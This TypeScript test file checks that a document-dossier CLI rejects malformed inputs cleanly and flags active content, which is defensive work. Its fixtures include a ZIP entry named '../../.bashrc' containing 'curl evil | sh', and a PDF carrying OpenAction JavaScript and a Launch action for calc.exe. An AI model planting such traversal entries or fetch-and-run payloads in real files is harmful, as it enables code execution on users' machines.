/**
 * Bad input to the built CLI (`ocr`, `build`, `verify`): every file below must give exit 2, ONE
 * line on stderr naming the file and the reason, no stack trace, no output file left behind, in a
 * few seconds and without holding the file's worth of memory. A PDF with JavaScript is read (ocr)
 * or flagged (verify), never run. Inputs are generated here into a temporary folder.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { closeSync, cpSync, existsSync, mkdirSync, mkdtempSync, openSync, readdirSync, readFileSync, rmSync, writeFileSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { strToU8 } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { canonicalJson } from '../../shared/archive/format';
import { writeArchive } from '../../shared/archive/write-archive';
import { newCase, type Case, type CaseId, type EvidenceId, type Sha256 } from '../../shared/case/schema';
import { buildZip } from '../shared/archive/zip-builder';

const root = join(import.meta.dirname, '..', '..');
const cli = join(root, 'dist', 'cli', 'dossier.mjs');
const FIX = join(root, 'test', 'fixtures', 'evidence');
const dir = mkdtempSync(join(tmpdir(), 'dossier-bad-'));
const hasTime = existsSync('/usr/bin/time');
const hasQpdf = spawnSync('qpdf', ['--version']).status === 0;
const sha = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');

interface Outcome { status: number | null; stdout: string; stderr: string; seconds: number; maxRssMb: number | undefined }

/** Runs the CLI under /usr/bin/time (when present) to measure wall time and peak memory. */
function run(...args: string[]): Outcome {
  const started = performance.now();
  const r = hasTime
    ? spawnSync('/usr/bin/time', ['-f', '__RSS__%M', process.execPath, cli, ...args], { cwd: dir, encoding: 'utf8', timeout: 120_000 })
    : spawnSync(process.execPath, [cli, ...args], { cwd: dir, encoding: 'utf8', timeout: 120_000 });
  const seconds = (performance.now() - started) / 1000;
  const rss = /__RSS__(\d+)/.exec(r.stderr);
  const stderr = r.stderr.replace(/^Command exited with non-zero status \d+\n/m, '').replace(/__RSS__\d+\n?/, '');
  return { status: r.status, stdout: r.stdout, stderr, seconds, maxRssMb: rss ? Number(rss[1]) / 1024 : undefined };
}

const measured: Array<{ label: string; seconds: number; maxRssMb: number | undefined }> = [];

/** A one-page PDF with real text, optionally carrying JavaScript that runs on open. */
async function textPdf(withJavaScript: boolean): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([400, 200]);
  page.drawText('Invoice 2024-10 total NT$ 1,250 due 2024-11-15', { x: 20, y: 120, size: 12, font });
  if (withJavaScript) {
    const js = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("pwned"); app.launchURL("http://example.com/x");') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(js));
    const launch = doc.context.obj({ S: 'Launch', F: PDFString.of('calc.exe') });
    page.node.set(PDFName.of('AA'), doc.context.obj({ O: doc.context.register(launch) }));
  }
  // Object streams: active content hidden inside compressed objects must still be found.
  return doc.save({ useObjectStreams: true });
}

/** A small valid case archive with the given originals. */
async function archiveOf(files: Array<{ name: string; bytes: Uint8Array }>): Promise<Uint8Array> {
  const c: Case = {
    ...newCase({ id: 'c1' as CaseId, title: '測試案件', jurisdiction: 'TW', now: '2025-01-01T00:00:00.000Z' }),
    evidence: files.map((f, i) => ({
      id: `e${i + 1}` as EvidenceId, title: f.name, kind: 'other', fileName: f.name, isKey: true,
      mimeType: f.name.endsWith('.pdf') ? 'application/pdf' : 'image/png', size: f.bytes.length, sha256: sha(f.bytes) as Sha256,
      importedAt: '2025-01-01T00:00:00.000Z',
    })),
  };
  return writeArchive({ case: c, originals: new Map(files.map((f) => [sha(f.bytes), f.bytes])) }, async (b) => sha(b));
}

/** A case folder whose one exhibit is `file`. */
function caseFolder(name: string, file: string): string {
  const folder = join(dir, `case-${name}`);
  mkdirSync(folder, { recursive: true });
  cpSync(join(dir, file), join(folder, file));
  writeFileSync(join(folder, 'case.json'), JSON.stringify({ title: 'bad exhibit', jurisdiction: 'TW', language: 'zh-TW', evidence: [{ id: 'e1', file, title: 'exhibit' }] }));
  return folder;
}

beforeAll(async () => {
  execFileSync(process.execPath, [join(root, 'electron', 'build', 'build-node.mjs')], { cwd: root });
  const png = readFileSync(join(FIX, 'bill_tw_monthly.png'));
  const jpg = readFileSync(join(FIX, 'callog_tw.jpg'));
  writeFileSync(join(dir, 'empty.png'), new Uint8Array());
  writeFileSync(join(dir, 'empty.pdf'), new Uint8Array());
  writeFileSync(join(dir, 'empty.dossier'), new Uint8Array());
  writeFileSync(join(dir, 'truncated.png'), png.subarray(0, 3000));
  writeFileSync(join(dir, 'truncated.jpg'), jpg.subarray(0, Math.floor(jpg.length / 2)));
  const random = Uint8Array.from({ length: 64 * 1024 }, (_, i) => (Math.imul(i, 2654435761) >>> 13) & 0xff);
  writeFileSync(join(dir, 'random.png'), random);
  writeFileSync(join(dir, 'random.pdf'), random);
  writeFileSync(join(dir, 'random.dossier'), random);
  writeFileSync(join(dir, 'program.jpg'), readFileSync(process.execPath).subarray(0, 256 * 1024));
  // A real PNG header (valid IHDR) announcing 30000×30000 pixels, followed by a scrap of data.
  const huge = Buffer.from(png.subarray(0, 33 + 200));
  huge.writeUInt32BE(30000, 16);
  huge.writeUInt32BE(30000, 20);
  writeFileSync(join(dir, 'huge-header.png'), huge);
  // 200 MB image: a real PNG header then 200 MiB + 1 of data, written in pieces so the test itself stays small.
  const fd = openSync(join(dir, 'big.png'), 'w');
  writeSync(fd, png.subarray(0, 33));
  const chunk = Buffer.alloc(8 * 1024 * 1024, 0x5a);
  for (let written = 0; written < 200 * 1024 * 1024; written += chunk.length) writeSync(fd, chunk);
  closeSync(fd);
  const text = await textPdf(false);
  writeFileSync(join(dir, 'text.pdf'), text);
  writeFileSync(join(dir, 'broken.pdf'), text.subarray(0, Math.floor(text.length * 0.4)));
  writeFileSync(join(dir, 'header-only.pdf'), strToU8('%PDF-1.7\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'));
  writeFileSync(join(dir, 'javascript.pdf'), await textPdf(true));
  if (hasQpdf) execFileSync('qpdf', ['--encrypt', 'user-pw', 'owner-pw', '256', '--', join(dir, 'text.pdf'), join(dir, 'encrypted.pdf')]);
  // Archives: a good one, one with a ../ entry added, one whose original was altered, one with a JavaScript PDF.
  const good = await archiveOf([{ name: 'bill.png', bytes: png }]);
  writeFileSync(join(dir, 'good.dossier'), good);
  writeFileSync(join(dir, 'javascript.dossier'), await archiveOf([{ name: 'javascript.pdf', bytes: readFileSync(join(dir, 'javascript.pdf')) }]));
  const goodCase = strToU8(canonicalJson({ ...newCase({ id: 'c2' as CaseId, title: 'x', jurisdiction: 'CN', now: '2025-01-01T00:00:00.000Z' }) }));
  writeFileSync(join(dir, 'traversal.dossier'), buildZip([
    { name: 'case.json', data: goodCase },
    { name: '../../.bashrc', data: strToU8('curl evil | sh') },
    { name: 'checksums.json', data: strToU8(JSON.stringify({ 'case.json': sha(goodCase) })) },
  ]));
  const altered = Buffer.from(good);
  // The original is stored uncompressed: flip one byte in its data, keeping the ZIP structure intact.
  const at = altered.indexOf(png.subarray(1000, 1016));
  altered[at] = altered[at]! ^ 0xff;
  writeFileSync(join(dir, 'wrong-hash.zip'), altered);
  writeFileSync(join(dir, 'case.json'), JSON.stringify({ title: 42, jurisdiction: 'TW', evidence: 'none' }));
  writeFileSync(join(dir, 'not-json.json'), '{"title": "unterminated');
  writeFileSync(join(dir, 'empty-case.json'), '');
}, 180_000);

afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
  const rows = measured.map((m) => `${m.label.padEnd(46)} ${m.seconds.toFixed(2).padStart(6)} s ${m.maxRssMb === undefined ? '' : `${m.maxRssMb.toFixed(0).padStart(5)} MB`}`);
  console.log(`CLI bad input (wall time, peak RSS):\n${rows.join('\n')}`);
});

type Row = [label: string, args: () => string[], reason: RegExp];

const ocrRows: Row[] = [
  ['ocr: empty file', () => ['ocr', 'empty.png'], /empty file/],
  ['ocr: truncated PNG', () => ['ocr', 'truncated.png'], /truncated or corrupt PNG/],
  ['ocr: truncated JPEG', () => ['ocr', 'truncated.jpg'], /truncated JPEG/],
  ['ocr: random bytes', () => ['ocr', 'random.png'], /not an image or PDF/],
  ['ocr: executable renamed .jpg', () => ['ocr', 'program.jpg'], /not an image or PDF/],
  ['ocr: PNG header claiming 30000×30000', () => ['ocr', 'huge-header.png'], /image too large \(30000×30000 px/],
  ['ocr: 200 MB image', () => ['ocr', 'big.png'], /file too large \(20[01] MB; the limit is 200 MB\)/],
  ['ocr: broken PDF', () => ['ocr', 'broken.pdf'], /broken or unreadable PDF/],
  ['ocr: PDF that is only a header', () => ['ocr', 'header-only.pdf'], /broken or unreadable PDF/],
  ['ocr: random bytes named .pdf', () => ['ocr', 'random.pdf'], /not an image or PDF/],
  ...(hasQpdf ? [['ocr: password-protected PDF', () => ['ocr', 'encrypted.pdf'], /password-protected/] as Row] : []),
];

const buildRows: Row[] = [
  ['build: case.json with wrong types', () => ['build', 'case.json', '-o', 'out.pdf'], /invalid case: (title|evidence)/],
  ['build: case.json that is not JSON', () => ['build', 'not-json.json', '-o', 'out.pdf'], /invalid JSON/],
  ['build: empty case.json', () => ['build', 'empty-case.json', '-o', 'out.pdf'], /invalid JSON/],
  ['build: empty archive', () => ['build', 'empty.dossier', '-o', 'out.pdf'], /empty file/],
  ['build: random bytes as archive', () => ['build', 'random.dossier', '-o', 'out.pdf'], /not a case archive/],
  ['build: archive with ../ path', () => ['build', 'traversal.dossier', '-o', 'out.pdf'], /\.\.\/\.\.\/\.bashrc: path points outside/],
  ['build: archive with a wrong hash', () => ['build', 'wrong-hash.zip', '-o', 'out.pdf'], /originals\/[0-9a-f]{64}: (SHA-256 is|CRC-32 does not match)/],
  ['build: exhibit is a truncated PNG', () => ['build', caseFolder('trunc-png', 'truncated.png'), '-o', 'out.pdf'], /truncated\.png: truncated or corrupt PNG/],
  ['build: exhibit is a truncated JPEG', () => ['build', caseFolder('trunc-jpg', 'truncated.jpg'), '-o', 'out.pdf'], /truncated\.jpg: truncated JPEG/],
  ['build: exhibit is an executable renamed .jpg', () => ['build', caseFolder('exe', 'program.jpg'), '-o', 'out.pdf'], /program\.jpg: is a Linux program, not a document/],
  ['build: exhibit claims 30000×30000', () => ['build', caseFolder('huge', 'huge-header.png'), '-o', 'out.pdf'], /huge-header\.png: image too large/],
  ['build: exhibit is a 200 MB image', () => ['build', caseFolder('big', 'big.png'), '-o', 'out.pdf'], /big\.png: file too large/],
  ['build: exhibit is an empty file', () => ['build', caseFolder('empty', 'empty.png'), '-o', 'out.pdf'], /empty\.png: empty file/],
  ['build: exhibit is a broken PDF', () => ['build', caseFolder('broken-pdf', 'broken.pdf'), '-o', 'out.pdf'], /broken\.pdf: .*(cannot be read|broken)/],
  ...(hasQpdf ? [['build: exhibit is a password-protected PDF', () => ['build', caseFolder('enc', 'encrypted.pdf'), '-o', 'out.pdf'], /encrypted\.pdf: .*(encrypted|password)/] as Row] : []),
];

const verifyRows: Row[] = [
  ['verify: empty PDF', () => ['verify', 'empty.pdf'], /empty file/],
  ['verify: random bytes named .pdf', () => ['verify', 'random.pdf'], /not a PDF/],
  ['verify: broken PDF', () => ['verify', 'broken.pdf'], /(cannot be read|broken PDF)/],
  ['verify: PDF that is only a header', () => ['verify', 'header-only.pdf'], /(cannot be read|broken PDF)/],
  ...(hasQpdf ? [['verify: password-protected PDF', () => ['verify', 'encrypted.pdf'], /encrypted/] as Row] : []),
  ['verify: empty archive', () => ['verify', 'empty.dossier'], /empty file/],
  ['verify: random bytes as archive', () => ['verify', 'random.dossier'], /not a case archive/],
  ['verify: archive with ../ path', () => ['verify', 'traversal.dossier'], /\.\.\/\.\.\/\.bashrc: path points outside/],
  ['verify: archive with a wrong hash', () => ['verify', 'wrong-hash.zip'], /originals\/[0-9a-f]{64}: (SHA-256 is|CRC-32 does not match)/],
];

describe('CLI bad input', () => {
  it.each([...ocrRows, ...buildRows, ...verifyRows])('%s', (label, args, reason) => {
    const argv = args();
    const before = readdirSync(dir).sort();
    const r = run(...argv);
    measured.push({ label, seconds: r.seconds, maxRssMb: r.maxRssMb });
    expect(r.stdout).toBe('');
    expect(r.status).toBe(2);
    const lines = r.stderr.trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    const file = argv[1]!;
    const named = label.includes('exhibit') ? reason : new RegExp(`^dossier: ${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: `);
    expect(lines[0]).toMatch(named);
    expect(lines[0]).toMatch(reason);
    expect(r.stderr).not.toMatch(/\n\s+at |internal error/);
    expect(r.seconds).toBeLessThan(20);
    if (r.maxRssMb !== undefined) expect(r.maxRssMb).toBeLessThan(600);
    // Nothing written: no output, no temporary file.
    expect(readdirSync(dir).sort()).toEqual(before);
    expect(readdirSync(dir).filter((f) => f.endsWith('.tmp') || f === 'out.pdf')).toEqual([]);
  });

  it('ocr reads the text of a PDF with JavaScript and runs nothing', () => {
    const r = run('ocr', 'javascript.pdf');
    measured.push({ label: 'ocr: PDF with JavaScript (reads text)', seconds: r.seconds, maxRssMb: r.maxRssMb });
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('Invoice 2024-10 total NT$ 1,250');
    expect(r.stderr).toBe('');
  });

  it('verify flags a PDF with JavaScript as active content', () => {
    const r = run('verify', 'javascript.pdf');
    expect(r.status).toBe(1);
    const report = JSON.parse(r.stdout) as { activeContent: string[]; isOk: boolean };
    expect(report.isOk).toBe(false);
    expect(report.activeContent).toEqual(expect.arrayContaining(['OpenAction', 'JavaScript', 'Launch']));
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/^dossier: javascript\.pdf: .*active content/);
  });

  it('verify passes a good archive and flags a JavaScript PDF inside one', () => {
    const good = run('verify', 'good.dossier');
    expect(good.status).toBe(0);
    expect(good.stdout).toMatch(/good\.dossier: case archive OK/);
    expect(good.stdout).toMatch(/SHA-256 of case\.json and 1 originals/);
    const js = run('verify', 'javascript.dossier');
    expect(js.status).toBe(0);
    const warning = /warning: originals\/[0-9a-f]{64} \(javascript\.pdf\): PDF with active content \((.*)\); kept as evidence, never run/.exec(js.stdout);
    expect(warning?.[1]?.split(', ')).toEqual(['/AA', '/JS', '/OpenAction', '/S /JavaScript', '/S /Launch']);
  });

  it('build accepts an archive and the dossier carries no active content', () => {
    const out = join(dir, 'from-archive.pdf');
    const r = run('build', 'good.dossier', '-o', basename(out));
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    const v = run('verify', basename(out));
    expect(v.status).toBe(0);
    rmSync(out);
  });
});
